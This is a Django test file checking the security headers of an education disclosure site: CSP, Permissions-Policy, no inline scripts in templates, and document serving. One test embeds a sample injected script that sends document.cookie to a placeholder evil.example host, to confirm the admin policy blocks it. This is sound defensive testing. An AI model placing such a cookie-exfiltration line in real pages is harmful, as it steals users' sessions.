"""Security headers (issue 12, finding 8): every HTML response carries a
Content-Security-Policy — the strict one on the public site, the admin's
under /admin/ — and a Permissions-Policy; documents are served without a
literal "Content-Encoding: None"; no template writes inline script or
style, so the strict policy holds (checked in Chromium by
tests/browser/test_csp.py)."""

import re
from pathlib import Path

import pytest
from django.conf import settings
from django.test import Client

from core.middleware import admin_script_hashes
from disclosure.tests.helpers import make_document, policy, publish_fixture

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[1]
PUBLIC = [
    "/",
    "/en/",
    "/catalogue/",
    "/catalogue/招生管理/招生政策/",
    "/search/",
    "/search/?q=招生",
    "/api/search/?q=招生",
    "/catchment/",
    "/catchment/zones/",
    "/catchment/zones/2017.csv",
    "/no-such-page/",
    "/en/no-such-page/",
]


def policy_of(response):
    header = response.get("Content-Security-Policy", "")
    return dict(
        part.strip().split(" ", 1) if " " in part.strip() else (part.strip(), "")
        for part in header.split(";")
        if part.strip()
    )


@pytest.mark.parametrize("path", PUBLIC)
def test_public_responses_carry_the_strict_policy_and_a_permissions_policy(path):
    response = Client().get(path)
    assert response.status_code in (200, 404), path
    policy = policy_of(response)
    assert policy["default-src"] == "'none'" and policy["script-src"] == "'self'" and policy["style-src"] == "'self'"
    assert policy["frame-ancestors"] == "'none'" and policy["base-uri"] == "'none'" and policy["object-src"] == "'none'"
    assert "unsafe" not in response["Content-Security-Policy"] and "nonce" not in response["Content-Security-Policy"]
    assert "geolocation=()" in response["Permissions-Policy"] and "camera=()" in response["Permissions-Policy"]


def test_every_html_response_of_the_admin_carries_the_admin_policy(admin_client):
    for path in ["/admin/", "/admin/pages/", "/admin/catchment/import/", "/admin/jobs/", "/admin/login/"]:
        response = admin_client.get(path, follow=True)
        assert response["Content-Type"].startswith("text/html")
        policy = policy_of(response)
        assert policy["script-src"].startswith("'self'") and "'unsafe-inline'" not in policy["script-src"], path
        assert policy["style-src-attr"] == "'none'" and policy["frame-ancestors"] == "'self'", path


def test_an_admin_editor_page_allows_exactly_its_own_widget_scripts(admin_client, item):
    from disclosure.models import EnrolmentZonePage

    zone = EnrolmentZonePage.objects.first()
    response = admin_client.get(f"/admin/pages/{zone.pk}/edit/")
    hashes = admin_script_hashes(response)
    assert hashes and all(value in response["Content-Security-Policy"] for value in hashes)
    html = response.content.decode()
    inline = [
        body
        for attrs, body in re.findall(r"<script(?![^>]*\bsrc=)([^>]*)>(.*?)</script>", html, re.S)
        if "application/json" not in attrs and 'type="text/template"' not in attrs
    ]
    assert len(inline) == len(hashes) or len(set(inline)) == len(hashes)


def test_an_injected_script_is_not_allowed_by_the_admin_policy():
    from django.http import HttpResponse

    page = HttpResponse(
        '<script>initDateChooser("id_x", {"dayOfWeekStart": 1});</script>'
        '<script>fetch("https://evil.example/?" + document.cookie)</script>'
        '<script>initDateChooser("x", {"a": alert(1)});</script>',
        content_type="text/html; charset=utf-8",
    )
    assert len(admin_script_hashes(page)) == 1


def test_documents_are_served_without_a_literal_content_encoding_none():
    document = make_document("招生简章.pdf")
    page = policy(publish=False, title="附有简章的招生通知")  # a document is public while a live page uses it
    page.attachments = [("document", document)]
    publish_fixture(page.save_revision())
    response = Client().get(document.url)
    assert response.status_code == 200
    assert response.get("Content-Encoding") is None
    assert response["Content-Security-Policy"] == "default-src 'none'"  # Wagtail's own, kept
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "camera=()" in response["Permissions-Policy"]


def test_no_template_writes_inline_script_or_style():
    """The public policy allows no inline script or style: none may be written (CSS and JS are files under static/)."""
    offenders = []
    folders = [ROOT / "templates"] + [path for path in ROOT.glob("*/templates") if ".venv" not in str(path)]
    for folder in folders:
        for template in folder.rglob("*.html"):
            text = template.read_text(encoding="utf-8")
            for pattern in (
                r"<script(?![^>]*\bsrc=)(?![^>]*type=\"application/(?:ld\+)?json\")[^>]*>",
                r"<style\b",
                r"\sstyle=\"",
                r"\son[a-z]+=\"",
            ):
                if re.search(pattern, text, re.I):
                    offenders.append(f"{template.relative_to(ROOT)}: {pattern}")
    assert not offenders, "inline script or style in templates:\n" + "\n".join(offenders)


def test_the_server_error_page_works_under_the_policy():
    html = (ROOT / "templates" / "500.html").read_text(encoding="utf-8")
    assert "css/error.css" in html and "<style" not in html
    assert (ROOT / "static" / "css" / "error.css").exists()


def test_production_upgrades_insecure_requests(monkeypatch):
    import importlib
    import sys

    monkeypatch.setenv("SECRET_KEY", "x" * 60)
    monkeypatch.setenv("ALLOWED_HOSTS", "edu.example.org")
    sys.modules.pop("edusite.settings.production", None)
    production = importlib.import_module("edusite.settings.production")
    try:
        assert production.CONTENT_SECURITY_POLICY["DIRECTIVES"]["upgrade-insecure-requests"] is True
        assert production.CONTENT_SECURITY_POLICY_ADMIN["DIRECTIVES"]["upgrade-insecure-requests"] is True
        assert "upgrade-insecure-requests" not in settings.CONTENT_SECURITY_POLICY["DIRECTIVES"]  # a copy, not changed
    finally:
        sys.modules.pop("edusite.settings.production", None)
